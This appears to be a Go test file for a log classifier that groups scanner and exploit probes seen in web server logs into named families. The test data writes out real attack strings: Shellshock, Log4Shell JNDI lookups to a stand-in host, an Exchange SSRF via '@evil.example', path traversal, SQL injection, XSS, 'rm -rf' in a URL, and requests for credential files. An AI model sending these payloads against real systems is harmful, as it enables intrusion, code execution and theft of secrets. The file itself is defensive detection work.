package codes

import (
	"bytes"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/iotest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// family returns the name of the family of a request, "" for none.
func (f *Families) family(request string) string {
	method, path, query, agent := parts(request)
	family, found := f.Match(method, path, query, agent)
	if !found {
		family = None
	}
	return f.Name(family)
}

// parts takes a request apart that is written METHOD PATH?QUERY AGENT, of which the
// first and the last may be missing.
func parts(request string) (method, path, query, agent []byte) {
	verb, rest, ok := strings.Cut(request, " ")
	if !ok {
		verb, rest = "GET", request
	}
	target, browser, ok := strings.Cut(rest, " ")
	if !ok {
		browser = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/126.0.0.0+Safari/537.36"
	}
	stem, asked, ok := strings.Cut(target, "?")
	if !ok {
		asked = "-"
	}
	return []byte(verb), []byte(stem), []byte(asked), []byte(browser)
}

func TestProbesAreKnown(t *testing.T) {
	families := OpenFamilies()
	seen := map[string]bool{}
	f := func(family string, requests ...string) {
		t.Helper()
		seen[family] = true
		for _, r := range requests {
			assert.Equal(t, family, families.family(r), r)
		}
	}
	f("browser-files", "/favicon.ico", "/FAVICON.ICO", "/app/favicon.ico", "/robots.txt", "/apple-touch-icon-120x120-precomposed.png",
		"/sitemap.xml", "/ads.txt", "/.well-known/security.txt", "/.well-known/something-new/x.json", "/.well-known/appspecific/com.chrome.devtools.json", "/browserconfig.xml",
		"/js/app.min.js.map", "/css/site.css.map")
	f("php-probes", "/index.php", "/upl.php", "/uc_server2/admin.php?m=user&a=login", "/a/index.php/b/c", "/x.phtml", "/INDEX.PHP")
	f("php-probes", "/.well-known/acme-challenge/x.php")
	f("cgi-probes", "/cgi-bin/test", "/cgi-bin", "/status.cgi", "/cgi-bin/formmail.pl")
	f("java-pages", "/index.jsp", "/a/b.jspx")
	f("odd-methods", "TRACE / -", "TRACK / -", "connect example.com:443 -", "MGLNDD_192.0.2.1_80 / -", "SEARCH / -")
	f("webdav-discovery", "/docs/._plan.docx", "/docs/.DS_Store", "PROPFIND /docs/ Microsoft-WebDAV-MiniRedir/10.0.19045", "OPTIONS /docs/ Microsoft+Office+Protocol+Discovery", "/docs/desktop.ini")
	f("other-cms", "/administrator/", "/index.html?option=com_content", "/joomla/", "/drupal", "/bbs/uc_server/admin.php", "/phpbb/")
	f("wordpress", "/wp-login.php", "/blog/wp-includes/wlwmanifest.xml", "/wp-admin/", "/wp-content/plugins/x/readme.txt", "/xmlrpc.php?rsd", "/WP/", "/wordpress", "/wp-config.php")
	f("php-tools", "/phpmyadmin/", "/phpMyAdmin-5.1/index.php", "/pma/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution",
		"/?XDEBUG_SESSION_START=phpstorm", "/index.php?s=/index/think/app/invokefunction", "/phpinfo.php")
	f("java-servers", "/manager/html", "/actuator", "/app/actuator/env", "/actuator/health", "/solr/admin/info/system?wt=json", "/jenkins/login", "/struts2-showcase/index.action",
		"/wls-wsat/CoordinatorPortType", "/geoserver/web/", "/login.action", "/nacos/v1/auth/users")
	f("backup-files", "/backup.zip", "/www.rar", "/backup/www.zip", "/wp-content.zip", "/backup2024.zip", "/default.aspx.bak", "/dump.sql", "/mail/backup.pst", "/data/crm.mdf", "/a/site.tar.gz", "/Default.aspx~")
	f("guessed-archives", "/shop.com.zip", "/web.old", "/1.zip", "/html_backup.zip")
	f("build-files", "/.DS_Store", "/Dockerfile", "/docker-compose.yml", "/.vscode/settings.json")
	f("upload-pages", "/ueditor/net/controller.ashx", "/Telerik.Web.UI.WebResource.axd?type=rau", "/moveitisapi/moveitisapi.dll?action=capa")
	f("odd-queries", "/search.aspx?q=%3Cscript%3E", "/static/..%5Cx", "/item.aspx?id=1%27", "/item.aspx?id=1+and+1%3D2", "/a?file=x/etc/passwd", "/guest.htm+++++Result:+no+post+sending+forms+are+found")
	f("product-exploits", "POST /moveitisapi/moveitisapi.dll?action=m2 -", "/human2.aspx", "/SetupWizard.aspx/x")
	f("random-names", "/aaa9", "/nmaplowercheck1719842312", "/nice+ports,/Trinity.txt.bak")
	f("secret-files", "/.env", "/.env.production", "/api/.env", "/.git/config", "/.gitignore", "/.aws/credentials", "/.ssh/id_rsa", "/web.config", "/web.config.bak",
		"/.vscode/sftp.json", "/prod.env", "/keys/server.pfx")
	f("network-devices", "/boaform/admin/formLogin", "/HNAP1/", "/HNAP1", "/GponForm/diag_Form?images/", "/cgi-bin/luci/;stok=/locale", "/setup.cgi?next_file=netgear.cfg", "/shell?cd+/tmp;rm+-rf+*", "/SDK/webLanguage")
	f("vpn-gateways", "/remote/login", "/remote/fgt_lang?lang=en", "/dana-na/auth/url_default/welcome.cgi", "/+CSCOE+/logon.html", "/vpn/index.html", "/global-protect/login.esp", "/tmui/login.jsp")
	f("microsoft-exploits", "/autodiscover/autodiscover.json?@zdi/Powershell", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
		"/owa/auth/x.js", "/ecp/y.js", "/_layouts/15/spinstall0.aspx", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application")
	f("iis-legacy", "/_vti_inf.html", "/_vti_bin/shtml.exe/_vti_rpc", "/_vti_bin/owssvr.dll?UL=1&ACT=4", "/MSOffice/cltreq.asp", "/scripts/root.exe", "/c/winnt/system32/",
		"/default.ida?NNNNNNNN", "/NULL.printer", "/msadc/msadcs.dll", "/_vti_pvt/service.cnf")
	f("iis-pages", "/a*~1*/.aspx", "/?*~1*", "/app/ab*~2*/.aspx", "/default.asp::$DATA", "/trace.axd", "/elmah.axd")
	f("open-services", "/api/v1/pods", "/v2/_catalog", "/latest/meta-data/iam/security-credentials/", "/_cat/indices", "/server-status", "/containers/json", "/query?q=SHOW+DATABASES")
	f("web-shells", "/aspnet_client/shell.aspx", "/uploads/cmd.aspx", "/alfa.php", "/c99.php", "/owa/auth/OutlookEN.aspx", "/aspxspy2014.aspx")
	f("injection", "/../../../etc/passwd", "/a/..%2f..%2fweb", "/static/..%5c..%5cx", "/item.aspx?id=1+UNION+SELECT+1,2", "/item.aspx?id=1%20union%20all%20select%201", "/?x=${jndi:ldap://192.0.2.1/a}",
		"/?x=%24%7Bjndi:ldap", "/search.aspx?q=<script>alert(1)</script>", "/cgi-bin/.%2e/.%2e/bin/sh", "/scripts/..%c0%af../winnt/system32/cmd.exe", "/WEB-INF/web.xml",
		"GET / ()+{+:;};+/bin/bash+-c+id", "GET / ${jndi:ldap://192.0.2.1/a}")
	f("windows-discovery", "POST /StableWSDiscoveryEndpoint/schemas-xmlsoap-org_ws_2005_04_discovery WSDAPI", "POST /0c7a5f1e/ WSDAPI", "POST /StableWSDiscoveryEndpoint/x -",
		"/wpad.dat", "/upnp/control/1", "NOTIFY / -", "/ipp/print")
	f("scanner-agents", "GET / Mozilla/5.0+zgrab/0.x", "GET /favicon.ico Mozilla/5.0+(compatible;+CensysInspect/1.1;++https://about.censys.io/)", "GET /.env l9explore/1.2.2", "GET / masscan/1.3",
		"GET / Expanse,+a+Palo+Alto+Networks+company", "GET /a.php sqlmap/1.7", "GET / Mozilla/5.00+(Nikto/2.1.6)", "OPTIONS / Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html)", "GET / Hello,+World", "GET / Hello, World")

	seen["own-services"] = true // is no noise, see TestMissingPagesAreNoNoise
	for i := range families.Count() {
		if families.IsOfStrangers(i) {
			continue // Match does not know it
		}
		assert.True(t, seen[families.Name(i)], "no probe of %s is tested", families.Name(i))
	}
}

// What a site itself may have lost is no noise.
func TestMissingPagesAreNoNoise(t *testing.T) {
	families := OpenFamilies()
	for _, r := range []string{
		"/", "-", "", "/printers/.printer", "/printers/office/.printer", "/gis/layer3.map", "/old/price-list.pdf", "/old/", "/app/login.aspx", "/images/logo.png", "/api/orders/42", "/help.html", "/Scripts/samples/a.js",
		"/default.aspx?ReturnUrl=%2fadmin%2f", "/app/login.aspx?ReturnUrl=..%2fdefault.aspx", "/login.aspx?ReturnUrl=/wp-admin/", "/a.aspx?file=backup.zip", "/a.aspx?next=/x.php",
		"/admin", "/admin/users", "/backup/", "/docs/backup/restore.html", "/downloads/setup.zip", "/downloads/images.zip", "/report.tar.gz", "/shop/", "/forum/", "/home", "/new/",
		"/.well-known/acme-challenge/7KznDAw7MCAexPn", "/.well-known/pki-validation/fileauth.txt", "/.well-known/openid-configuration", "/.well-known/mta-sts.txt", "/.well-known/oauth-authorization-server", "/.well-known/est/cacerts", "/.well-known/acme-challenge/",
		"/owa/", "/owa/auth/logon.aspx?replaceCurrent=1", "/ecp/", "/autodiscover/autodiscover.xml", "/autodiscover/autodiscover.json?Email=a@example.com&Protocol=ActiveSync", "/autodiscover/autodiscover.json/v1.0/a@example.com",
		"/EWS/Exchange.asmx", "/mapi/emsmdb/?MailboxId=x@example.com", "/rpc/rpcproxy.dll?mail:6001", "RPC_IN_DATA /rpc/rpcproxy.dll?mail:6001 MSRPC", "/Microsoft-Server-ActiveSync?Cmd=Sync&User=a",
		"/_vti_bin/lists.asmx", "/_layouts/15/start.aspx", "/_api/web/lists", "/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "/WebResource.axd?d=x", "/ScriptResource.axd",
		"/CertEnroll/CA.crl", "/ClientWebService/client.asmx", "/ccm_system/request", "/RDWeb/Pages/en-US/login.aspx", "/adfs/ls/", "/ReportServer/Pages/ReportViewer.aspx", "/Citrix/StoreWeb",
		"/products/actuator/valve.html", "/products/actuator", "/telescope/", "/cacti/", "/hudson/valley.html", "/luci/", "/prodotti/luci/", "/druid/", "/blog/wordpress-tips.html", "/downloads/wp-cloud-2020.pdf", "/wp-content-marketing.pdf",
		"/blog/typo3-vs-umbraco/", "/umbraco/", "/swagger/index.html", "/swagger/v1/swagger.json", "/graphql", "/health", "/metrics", "/config.json", "/appsettings.Production.json", "/manifest.json",
		"/v1/agent/42", "/console/css/app.css", "/saas/pricing", "/products/ssl-vpn/", "/csp/sys/UtilHome.csp", "/data.zip", "/sitemap.aspx", "/env", "/.html", "/index.phpx", "/x.cgi.html",
		"/download.aspx?name=color+1=1", "/a.aspx?x=../b.aspx", "/bin/shared/x.js", "/shell/", "/cmd/", "/alfa.phpx", "/a.aspx?mail=edwin.initech.com", "/a.aspx?do=reboot.initiate",
		"OPTIONS /app/", "PUT /api/orders/42", "DELETE /api/orders/42", "PATCH /api/x", "LOCK /dav/a.docx", "PROPPATCH /dav/a.docx", "HEAD /old/a.docx Microsoft+Office+Existence+Discovery",
		"GET /feed.xml Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)", "GET /a Mozilla/5.0+(compatible;+bingbot/2.0)", "GET /a GPTBot/1.0", "GET /a curl/8.1.2",
		"GET /a python-requests/2.31", "GET /a Go-http-client/1.1", "GET /a accommodation-search/1.0", "GET /a PeopleOnMap/2.1", "GET /a Faraday+v2.7.4", "GET /a -",
		"/git/config", "/env.js", "/Content/site.css", "/bundles/jquery?v=JVBM4Dk7eZ", "/bundles/modernizr", "/api/v1/users", "/api/v2", "/report.aspx?sql=select+name", "/tools/rss.aspx", "/european-union-select/",
	} {
		assert.Empty(t, families.family(r), r)
	}
}

// HTTPERR logs write path and query as one.
func TestMatchPartsPathAndQuery(t *testing.T) {
	families := OpenFamilies()
	for _, query := range []string{"", "-"} {
		family, ok := families.Match([]byte("GET"), []byte("/a.php?b=1"), []byte(query), nil)
		assert.True(t, ok)
		assert.Equal(t, "php-probes", families.Name(family))
	}
}

func TestMatchLooksAtTheStartOfLongFields(t *testing.T) {
	families := OpenFamilies()
	long := strings.Repeat("a", fieldLimit)
	assert.Equal(t, "secret-files", families.family("/.env/"+long+"/x"))
	assert.Empty(t, families.family("/"+long+"/.env"))
	assert.Empty(t, families.family("/"+long[:fieldLimit-5]+".php.html"), "what is cut has no end")
	assert.Equal(t, "php-probes", families.family("/"+long[:fieldLimit-5]+".php"))

	huge := bytes.Repeat([]byte("/wp"), 1<<20)
	assert.Zero(t, testing.AllocsPerRun(10, func() { families.Match(huge, huge, huge, huge) }))
}

func TestMatchDoesNotAllocate(t *testing.T) {
	families := OpenFamilies()
	method, path, query, agent := usual()
	assert.Zero(t, testing.AllocsPerRun(100, func() { families.Match(method, path, query, agent) }))
}

func TestAddFamilies(t *testing.T) {
	families := OpenFamilies()
	built := families.Count()
	require.NoError(t, families.Add("own.tsv", strings.NewReader("\ufefffamily\tkind\tpattern\r\n"+
		"# our own\r\n\r\nhealth-checks\tpath\t/health\r\nhealth-checks\tagent\tLoadBalancer Probe\r\n"+
		"health-checks\tpath\t/.env.ours\r\nwordpress\tsegment\told-blog\r\nphp-probes\toff\t-\r\n")))

	assert.Equal(t, built+1, families.Count())
	assert.Equal(t, "health-checks", families.Name(built))
	assert.Equal(t, "health-checks", families.family("/health/"))
	assert.Equal(t, "health-checks", families.family("GET /x a+loadbalancer+probe/1"))
	assert.Equal(t, "health-checks", families.family("/.env.ours"), "own families win")
	assert.Equal(t, "wordpress", families.family("/old-blog/2020"))
	assert.Empty(t, families.family("/index.php"), "switched off")
	assert.Equal(t, "wordpress", families.family("/wp-login.php"), "the others stay")
}

func TestAddFamiliesErrors(t *testing.T) {
	families := OpenFamilies()
	f := func(text, want string) {
		t.Helper()
		err := families.Add("own.tsv", strings.NewReader(text))
		require.Error(t, err)
		assert.Contains(t, err.Error(), want)
	}
	const head = "family\tkind\tpattern\nx\tpath\t/never-seen\n"
	f("", "own.tsv:1: expected the header family<TAB>kind<TAB>pattern, found the end of the file")
	f(head+"x\tpath", "own.tsv:3: expected 3 cells between tabs, found 2")
	f(head+"X y\tpath\t/a", `own.tsv:3: expected a family of small letters, digits and hyphens, found "X y"`)
	f(head+"x\tquery\ta=b", `own.tsv:3: expected the kind path, segment, part, code, agent, method, port, is or off, found "query"`)
	f(head+"x\tpath\tab", `own.tsv:3: expected a pattern of kind path, such as /favicon.ico, /manager/* or *.bak, found "ab"`)
	f(head+"x\tpath\t/*", "own.tsv:3: expected a pattern of kind path")
	f(head+"x\tsegment\ta/b", "own.tsv:3: expected a pattern of kind segment, such as .git or phpmyadmin*")
	f(head+"x\tpart\t", "own.tsv:3: expected a pattern of kind part")
	f(head+"x\tagent\t-", "own.tsv:3: expected a pattern of kind agent")
	f(head+"x\tport\t65536", "own.tsv:3: expected a pattern of kind port, such as 5357")
	f(head+"x\tmethod\t*ACE", "own.tsv:3: expected a pattern of kind method, such as TRACK")
	f(head+"x\toff\t*", "own.tsv:3: expected a pattern of kind off, such as -")
	f(head+"y\toff\t-", `own.tsv:3: expected a family that is there to switch off, found "y"`)
	f(head+"x\tpart\ta\x00b", "own.tsv:3: expected printable text")
	f(head+"x\tpart\ta\xffb", "own.tsv:3: expected UTF-8")
	f(head+"x\tpart\t"+strings.Repeat("ab", 80000), "own.tsv:3: expected patterns of at most 131072 bytes in all, found more")
	f(strings.Repeat("#", customLimit+1), "own.tsv:1: expected a table of at most 4 MiB, found more")
	assert.ErrorIs(t, families.Add("own.tsv", iotest.ErrReader(os.ErrClosed)), os.ErrClosed)
	assert.Empty(t, families.family("/never-seen"), "after an error nothing has changed")
}

func TestNoFamilies(t *testing.T) {
	var families Families
	family, ok := families.Match([]byte("GET"), []byte("/.env"), nil, nil)
	assert.False(t, ok)
	assert.Equal(t, None, family)
	assert.Equal(t, "", families.Name(0))
	assert.Zero(t, families.Count())
	require.NoError(t, families.Add("own.tsv", strings.NewReader("family\tkind\tpattern\nx\tsegment\tpu*\n")))
	assert.Equal(t, "x", families.family("/a/PUB"))
}

// The automaton must find what a plain search finds.
func TestAutomatonFindsWhatASearchFinds(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	word := func(length int) string {
		var b strings.Builder
		for range 1 + r.IntN(length) {
			b.WriteByte("aB/. "[r.IntN(5)])
		}
		return b.String()
	}
	fold := strings.NewReplacer(" ", "+", "B", "b")
	for range 300 {
		var patterns []noisePattern
		for family := range 4 {
			patterns = append(patterns, noisePattern{family, "part", word(4)}, noisePattern{family, "method", word(4)})
		}
		a := newAutomaton(patterns, func(noisePattern) []question { return []question{isNoise} })
		for range 30 {
			method, path, query := word(4), "/"+word(12), word(12)
			want := None
			for _, p := range patterns {
				text := fold.Replace(p.text)
				if p.kind == "part" && strings.Contains(fold.Replace(path+"?"+query), text) ||
					p.kind == "method" && fold.Replace(method) == text {
					want = max(want, p.family)
				}
			}
			got, _ := a.match(isNoise, []byte(method), []byte(path), []byte(query), nil)
			assert.Equal(t, want, got, "%q %q %q in %v", method, path, query, patterns)
		}
	}
}

func noiseRows(t *testing.T) []row {
	t.Helper()
	rows, err := builtIn("noise.tsv", noiseColumns()...)
	require.NoError(t, err)
	return rows
}

func TestNoiseIsSortedAndUnique(t *testing.T) {
	done := map[string]bool{}
	var before []string
	for _, r := range noiseRows(t) {
		family, pattern := r.cells[0], r.cells[2]
		assert.Equal(t, strings.ToLower(pattern), pattern, "%s:%d", r.table, r.line)
		assert.NotContains(t, pattern, " ", "%s:%d: + stands for a blank", r.table, r.line)
		if before != nil && before[0] == family {
			assert.NotEqual(t, "is", r.cells[1], "%s:%d: what a family is stands first", r.table, r.line)
			assert.True(t, before[1] == "is" || slices.Compare(before, r.cells) < 0, "%s:%d: %v must come before %v", r.table, r.line, r.cells, before)
		} else {
			assert.False(t, done[family], "%s:%d: the lines of %s must stand together", r.table, r.line, family)
			done[family] = true
		}
		before = r.cells
	}
}

func TestFamiliesHaveAComment(t *testing.T) {
	text, err := tables.ReadFile("data/noise.tsv")
	require.NoError(t, err)
	lines := strings.Split(string(text), "\n")
	family := "family"
	for _, r := range noiseRows(t) {
		if r.cells[0] != family {
			family = r.cells[0]
			assert.True(t, strings.HasPrefix(lines[r.line-2], "# "), "%s:%d: %s has no comment before it", r.table, r.line, family)
		}
	}
}

func TestNoiseTextsAreComplete(t *testing.T) {
	families := OpenFamilies()
	seen := map[string]bool{}
	for _, lang := range Langs() {
		b := open(t, lang)
		rows, err := builtIn("noise."+string(lang)+".tsv", "family", "name", "meaning", "check")
		require.NoError(t, err)
		require.Len(t, rows, families.Count(), lang)
		for i, r := range rows {
			require.Equal(t, families.Name(i), r.cells[0], "%s:%d: families stand in the order of noise.tsv", r.table, r.line)
			n, ok := b.Noise(r.cells[0])
			assert.True(t, ok)
			assert.Equal(t, Noise{r.cells[0], r.cells[1], r.cells[2], r.cells[3]}, n)
			for part, text := range r.cells[1:] {
				place := r.table + ": " + text
				assert.Equal(t, part > 0, strings.HasSuffix(text, fullStop(lang)), place)
				assert.False(t, innerStop.MatchString(text), place)
				assert.Equal(t, lang == Chinese, han.MatchString(text), place)
				assert.False(t, halfWidth.MatchString(text), place)
				assert.False(t, seen[text], place)
				assert.LessOrEqual(t, len([]rune(text)), []int{48, 180, 180}[part], place)
				seen[text] = true
			}
		}
	}
}

func TestNoiseOfOwnFamilies(t *testing.T) {
	n, ok := open(t, Chinese).Noise("health-checks")
	assert.False(t, ok)
	assert.Equal(t, Noise{Family: "health-checks", Name: "health-checks"}, n)
	n, _ = new(Book).Noise("wordpress")
	assert.Equal(t, "wordpress", n.Family)
}

func FuzzMatch(f *testing.F) {
	families := OpenFamilies()
	f.Add([]byte("GET"), []byte("/.env?x"), []byte("-"), []byte("zgrab"))
	f.Add([]byte("\x02"), []byte("\x02/aaa9\x03"), []byte{}, []byte("Hello,\x00World"))
	f.Fuzz(func(t *testing.T, method, path, query, agent []byte) {
		family, ok := families.Match(method, path, query, agent)
		assert.Equal(t, ok, families.Name(family) != "")
		upper := func(b []byte) []byte {
			return bytes.Map(func(r rune) rune {
				if 'a' <= r && r <= 'z' {
					r -= 'a' - 'A'
				}
				return r
			}, b)
		}
		if bytes.Equal(bytes.ToValidUTF8(path, nil), path) && bytes.Equal(bytes.ToValidUTF8(query, nil), query) {
			again, _ := families.Match(method, upper(path), upper(query), agent)
			assert.Equal(t, family, again, "case does not matter")
		}
	})
}

func usual() (method, path, query, agent []byte) {
	return []byte("GET"), []byte("/images/products/large/4711-front.png"), []byte("-"),
		[]byte("Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/126.0.0.0+Safari/537.36")
}

func BenchmarkMatch(b *testing.B) {
	families := OpenFamilies()
	method, path, query, agent := usual()
	b.ReportAllocs()
	for b.Loop() {
		families.Match(method, path, query, agent)
	}
}

func BenchmarkOpenFamilies(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		OpenFamilies()
	}
}

// Steps of the automaton are worked out by whoever takes them first.
func TestMatchInManyGoroutines(t *testing.T) {
	read := readTableOfFamilies(t)
	match := func(f *Families) (all []int) {
		for _, p := range read.patterns {
			family, _ := f.Match([]byte("GET"), []byte("/"+p.text), []byte("x="+p.text), []byte(p.text))
			all = append(all, family)
		}
		return all
	}
	want, f := match(read), OpenFamilies()
	var wait sync.WaitGroup
	for range 4 {
		wait.Go(func() { assert.Equal(t, want, match(f)) })
	}
	wait.Wait()
}
